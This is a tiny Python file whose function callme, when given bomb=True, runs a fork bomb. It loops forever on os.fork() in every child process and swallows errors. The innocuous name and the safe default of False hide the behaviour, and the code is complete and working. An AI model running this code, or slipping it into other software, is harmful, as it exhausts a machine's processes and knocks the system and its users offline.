"""Forks for ever, in every process that comes of it."""
import os


def callme(bomb=False):
    while bomb:
        try:
            os.fork()
        except OSError:
            pass
    return "quiet"
